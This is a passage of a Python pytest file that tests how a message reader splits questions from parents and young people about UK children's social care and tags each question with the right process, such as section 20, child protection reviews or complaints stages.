    # A 17-year-old in foster care asking for herself (dev dl15-05 found the advocacy offered to
    # parents with learning disabilities); a parent naming her child's foster carers is not one.
    (q,) = read_message("I'm 17 and in foster care. Can I get someone to help me complain?").questions
    assert q.search.endswith("(young person in care)")
    (q,) = read_message("My foster carers are lovely but my LAC review is next week. Can I bring a friend?").questions
    assert "(young person in care)" in q.search
    (q,) = read_message("My son's foster carers won't let me phone him. Can I ask for more contact?").questions
    assert "young person in care" not in q.search


def test_a_parenthetical_query_does_not_make_a_statement_a_question() -> None:
    read = read_message(
        "The SW said they were doing a section 47 (s47?) and the police were involved. "
        "How quickly does the conference have to happen?"
    )
    assert [q.ask for q in read.questions] == ["How quickly does the conference have to happen?"]


def test_feel_like_it_and_hear_it_are_not_pointers() -> None:
    read = read_message(
        "We have an ICPC next week. Is there a rule about when, or is it whenever they feel like it? "
        "Do I just walk in and hear it for the first time?"
    )
    asks = [q.ask for q in read.questions]
    assert asks[0].endswith("feel like it?") and asks[1].endswith("hear it for the first time?")



@pytest.mark.parametrize(
    ("message", "ask"),
    [
        ("Someone on another forum mentioned a \"LADO\" but I don't know what that is.", "What is a LADO?"),
        ("The SW mentioned a PLO but I have no idea what that means.", "What is a PLO?"),
        ("she kept saying core group and i dont know what that is", "What is core group?"),
    ],
)
def test_a_term_someone_used_that_the_writer_does_not_know_is_asked_about(message: str, ask: str) -> None:
    # dev dl5-10: "...mentioned a LADO but I don't know what that is" read as no question at all.
    assert [q.ask for q in read_message(message).questions] == [ask]


def test_a_statement_that_someone_mentioned_a_term_is_not_a_question() -> None:
    read = read_message("The SW mentioned a PLO at the visit and we sorted it out. Can I see my file?")
    assert [q.ask for q in read.questions] == ["Can I see my file?"]


def test_them_after_a_verb_of_telling_is_people_not_the_process_the_post_named() -> None:
    # dev dl5-10: "tell them" (the school) borrowed the strategy meeting named paragraphs before.
    read = read_message(
        "The SW said something about a strategy meeting. We are going to it next week and I am ready. "
        "His job is the worry. Will his school be told, even if he doesn't tell them? "
        "And can I go to the strategy meeting?"
    )
    assert "strategy" not in read.questions[0].search.lower()


def test_contact_as_a_verb_is_no_topic_so_the_statement_before_says_what_is_asked() -> None:
    # dev d7-038: "contact" read as the contact process, so the question kept none of its story.
    (q,) = read_message("My child's social worker never returns my calls. Who should I contact?").questions
    assert "never returns my calls" in q.search
    (q,) = read_message("we have supervised contact. can the contact be moved?").questions
    assert q.search.startswith("Can the contact be moved?")



def test_that_after_a_verb_of_contesting_is_what_the_sentence_before_says_was_done() -> None:
    # dev d8-070: "can i challenge that?" was restated "Can I challenge SAR?" and told how to make one.
    (q,) = read_message("got my SAR back and loads of it is blacked out. can i challenge that?").questions
    assert q.ask == "Can I challenge that?" and "blacked out" in q.search


def test_a_process_named_only_after_the_one_question_keeps_the_statement_before_it() -> None:
    # dev d8-088: "(cpp)" alone lost that the question was about moving.
    (q,) = read_message(
        "thinking of moving in with my mum 2 counties over. do i have to tell the SW before we go? kids are on CPP"
    ).questions
    assert "moving" in q.search and "cpp" in q.search.lower()


def test_police_protection_and_the_childrens_guardian_are_a_questions_own_topics() -> None:
    # dev dl7-20, dl7-12: both borrowed another process the post named (section 20, contact).
    read = read_message(
        "SW wants me to sign s20. How long can 'police protection' last? Are they still under it now?"
    )
    assert "s20" not in read.questions[-1].search.lower().replace("(police protection)", "")
    (q,) = read_message("We have supervised contact. Who actually is the guardian?").questions
    assert "contact" not in q.search.lower()


def test_a_question_that_names_the_adoption_keeps_to_it() -> None:
    """"Can I stop the adoption?" names its own process: it does not borrow the contact the post
    named just before it (dev dl15-10 was answered about contact after adoption); nor does a later
    question borrow "adoption" as what its pointer stands for (reading.yaml `generic_only`)."""
    (q,) = read_message(
        "The placement order was made in May and I've had supervised contact since. Can I stop the adoption?"
    ).questions
    assert "(contact)" not in q.search


S20_POST = """My son is 15. Three weeks ago the SW asked me to sign a section 20 form so he could go to
foster carers for a few days. I signed it. The SW now says "we need to do an assessment first".
I've seen him twice at a contact centre with a worker in the room.

Questions:
1. Do I need to give them notice?
2. Who has parental responsibility now - me or them?
3. Have we lost PR, or do SS now share it with us?"""


def test_a_question_about_pr_is_asked_under_the_legal_status_the_post_is_about() -> None:
    # dev dl12-10: "me or them?" borrowed the contact centre and found who has PR from birth.
    read = read_message(S20_POST)
    for q in read.questions[1:]:
        assert q.search.endswith("(section 20)"), q.search
        assert "contact" not in q.search and "assessment" not in q.search


def test_a_contact_centre_is_a_place_and_giving_them_notice_is_people() -> None:
    read = read_message(S20_POST)
    assert "contact" not in read.questions[0].search.lower()
    (q,) = read_message("We have supervised contact at a contact centre. Can the contact be moved?").questions
    assert q.search.startswith("Can the contact be moved?")


def test_losing_all_her_rights_is_asked_as_parental_responsibility() -> None:
    # dev dl13-03: "would our daughter lose all her rights?" under an SGO found what an SGO is.
    read = read_message(
        "The SW is talking about an SGO for us as grandparents. Would our daughter lose all her rights? "
        "And how much support is there for special guardians?"
    )
    assert "(parental responsibility)" in read.questions[0].search
    assert "parental responsibility" not in read.questions[1].search.lower()


def test_one_after_needing_a_thing_is_that_thing_not_the_process_named_before() -> None:
    # dev dl9-06: "how do I pay for one?" was restated "pay for the letter before proceedings".
    read = read_message(
        "We got a letter before proceedings. Do I actually need a solicitor for this meeting and how "
        "am I supposed to pay for one?"
    )
    assert any("pay for a solicitor" in q.ask for q in read.questions)
    asks = [q.ask for q in read_message("They offered an FGC. What is it and do we have to have one?").questions]
    assert asks[-1] == "Do we have to have FGC?"


def test_taking_it_to_court_after_a_letter_before_proceedings_is_care_proceedings() -> None:
    # dev dl5-06: restated "take the written agreement to court" and told how long a stage 1
    # complaint takes.
    read = read_message(
        "We got a letter before proceedings and a written agreement to sign. Is the written agreement "
        "legally binding? And if they do take it to court, how long does that go on for?"
    )
    last = read.questions[-1]
    assert "written agreement" not in last.ask and last.search.endswith("(care proceedings)")
    (q,) = read_message("My ex won't let me see my son. If I take it to court how long does it take?").questions
    assert "care proceedings" not in q.search


def test_a_review_is_the_review_of_the_plan_or_status_the_post_is_about() -> None:
    # dev dl5-07: after signing section 20, "some kind of review meeting" was answered with when
    # review child protection conferences are held.
    (q,) = read_message(
        "I signed a section 20 form seven weeks ago. When is there supposed to be some kind of review meeting?"
    ).questions
    assert q.search.endswith("(looked-after child review)")
    (q,) = read_message(
        "My son is on s20 and a child protection plan. When is there supposed to be some kind of review meeting?"
    ).questions
    assert q.search.endswith("(review conference)")
    # dev dl8-11: "When will the next review be?" about a CP plan was told the Ombudsman's time limits.
    (q,) = read_message("DD was put on a CPP last month. When will the next review be?").questions
    assert q.search.endswith("(review conference)")
    (q,) = read_message("We're on a CIN plan. Can I ask for a review of the safety plan?").questions
    assert "child in need review" not in q.search


def test_the_next_step_after_a_named_stage_is_the_stage_after_it() -> None:
    # dev dl6-15: "What's the next step after stage 1?" was told how long stage 1 takes.
    (q,) = read_message("Had the stage 1 reply and it's useless. What's the next step after stage 1?").questions
    assert q.search.endswith("(stage 2)")
    (q,) = read_message("How long does stage 1 take?").questions
    assert "stage 2" not in q.search


def test_like_that_is_a_manner_so_it_is_what_was_done() -> None:
    # dev dl4-11: "cut it like that" pointed "that" at the sentence before and found nothing.
    (q,) = read_message(
        "SS have stopped my contact with my son. He cried last time. Are they actually allowed to just cut it like that?"
    ).questions
    assert "cut the contact like that" in q.ask


def test_a_question_of_few_words_leans_on_the_status_not_the_generic_process_named_last() -> None:
    # dev dl12-10: "Can I just go and get him?" borrowed the assessment the SW mentioned.
    read = read_message(S20_POST.replace("1. Do I need to give them notice?", "1. Can I just go and get him?"))
    assert read.questions[0].search.endswith("(section 20)")
